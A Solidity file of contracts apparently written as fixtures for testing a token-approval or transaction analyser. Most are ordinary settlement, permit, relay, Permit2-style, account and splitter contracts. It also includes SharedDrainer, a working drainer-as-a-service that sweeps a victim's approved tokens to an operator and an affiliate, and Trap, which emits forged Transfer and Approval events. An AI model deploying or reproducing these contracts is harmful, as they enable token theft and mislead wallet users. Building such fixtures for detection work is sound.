// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Token} from "../../../deploy/demo/contracts/solidity/Token.sol";
import {Collection, Gallery} from "./art.sol";
import {Grab, Subscription} from "./takers.sol";

/// A drainer as a service: the runner's calls take all of it, 20 % for the operator, 80 % for who brought the owner.
contract SharedDrainer {
    address public immutable runner = msg.sender;
    address public immutable operator;

    constructor(address operator_) {
        operator = operator_;
    }

    function drain(Token token, address from, address affiliate) external {
        require(msg.sender == runner, "not the runner");
        uint256 all = token.balanceOf(from);
        token.transferFrom(from, operator, all / 5);
        token.transferFrom(from, affiliate, all - all / 5);
    }
}

/// Swaps everything an owner approved for another token that a maker approved, by an order the solver carries in.
contract Settlement {
    function settle(Token sold, address seller, uint256 amount, Token bought, address maker, uint256 price) external {
        sold.transferFrom(seller, maker, amount);
        bought.transferFrom(maker, seller, price);
    }
}

/// An ERC-20 whose owners may approve by signature (EIP-2612).
contract PermitToken is Token {
    mapping(address => uint256) public nonces;

    constructor(uint256 supply) Token("Pebble", "PBL", supply) {}

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 kind = keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(kind, keccak256("Pebble"), keccak256("1"), block.chainid, address(this)));
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 kind = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 body = keccak256(abi.encode(kind, owner, spender, value, nonces[owner]++, deadline));
        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), body));
        require(owner != address(0) && ecrecover(digest, v, r, s) == owner, "not signed by the owner");
        allowance[owner][spender] = value;
        emit Approval(owner, spender, value);
    }
}

/// Carries payments that their payers permitted by signature, for a fee.
contract PaymentRelay {
    address public immutable keeper = msg.sender;

    struct Signature {
        uint8 v;
        bytes32 r;
        bytes32 s;
    }

    function carry(PermitToken token, address from, address to, uint256 value, uint256 fee, Signature calldata signed) external {
        token.permit(from, address(this), value + fee, type(uint256).max, signed.v, signed.r, signed.s);
        token.transferFrom(from, to, value);
        token.transferFrom(from, keeper, fee);
    }
}

/// Permit2's allowance part, at its address: same calls, same typed data, same event. Signatures are checked.
contract PermitTwo {
    struct Details {
        address token;
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }
    struct Single {
        Details details;
        address spender;
        uint256 sigDeadline;
    }

    event Permit(address indexed owner, address indexed token, address indexed spender, uint160 amount, uint48 expiration, uint48 nonce);

    mapping(address => mapping(address => mapping(address => uint160))) public allowed;
    mapping(address => mapping(address => mapping(address => uint48))) public nonces;

    function permit(address owner, Single calldata single, bytes calldata signature) external {
        Details calldata d = single.details;
        require(block.timestamp <= single.sigDeadline && d.nonce == nonces[owner][d.token][single.spender]++, "stale");
        (bytes32 r, bytes32 s, uint8 v) = (bytes32(signature[0:32]), bytes32(signature[32:64]), uint8(signature[64]));
        require(owner != address(0) && ecrecover(_digest(single), v, r, s) == owner, "not signed by the owner");
        allowed[owner][d.token][single.spender] = d.amount;
        emit Permit(owner, d.token, single.spender, d.amount, d.expiration, d.nonce);
    }

    function _digest(Single calldata single) private view returns (bytes32) {
        Details calldata d = single.details;
        bytes32 detailsKind = keccak256("PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)");
        bytes32 kind = keccak256(
            "PermitSingle(PermitDetails details,address spender,uint256 sigDeadline)PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)"
        );
        bytes32 details = keccak256(abi.encode(detailsKind, d.token, d.amount, d.expiration, d.nonce));
        bytes32 body = keccak256(abi.encode(kind, details, single.spender, single.sigDeadline));
        bytes32 domainKind = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
        bytes32 domain = keccak256(abi.encode(domainKind, keccak256("Permit2"), block.chainid, address(this)));
        return keccak256(abi.encodePacked("\x19\x01", domain, body));
    }

    function transferFrom(address from, address to, uint160 amount, address token) external {
        allowed[from][token][msg.sender] -= amount;
        Token(token).transferFrom(from, to, amount);
    }
}

/// An account that its member commands, or whoever the member lets bundle calls for it.
contract Account {
    address public immutable member;
    address public immutable entry;

    constructor(address member_, address entry_) {
        member = member_;
        entry = entry_;
    }

    function execute(address target, bytes calldata data) external {
        require(msg.sender == member || msg.sender == entry, "not allowed");
        (bool done, ) = target.call(data);
        require(done, "failed");
    }
}

/// Carries calls of several accounts in one transaction.
contract Entry {
    function handle(Account[] calldata accounts, address target, bytes calldata data) external {
        for (uint256 i = 0; i < accounts.length; i++) accounts[i].execute(target, data);
    }
}

/// Says whatever it is told of whom it likes, in whoever's transaction: nobody owns, approves or gives anything.
contract Trap {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address[] private named;

    function tell(address[] calldata owners, address spender) external {
        named = owners;
        for (uint256 i = 0; i < owners.length; i++) {
            emit Transfer(address(0), owners[i], 1000);
            emit Approval(owners[i], spender, 1000);
        }
    }

    function claim() external {
        for (uint256 i = 0; i < named.length; i++) emit Transfer(named[i], msg.sender, 1000);
    }
}

/// Splits what is sent to it between a cause, four fifths, and whoever runs it.
contract Splitter {
    address payable public immutable cause;
    address payable public immutable keeper = payable(msg.sender);

    constructor(address payable cause_) {
        cause = cause_;
    }

    receive() external payable {
        (bool one, ) = keeper.call{value: msg.value / 5}("");
        (bool other, ) = cause.call{value: msg.value - msg.value / 5}("");
        require(one && other, "refused");
    }
}
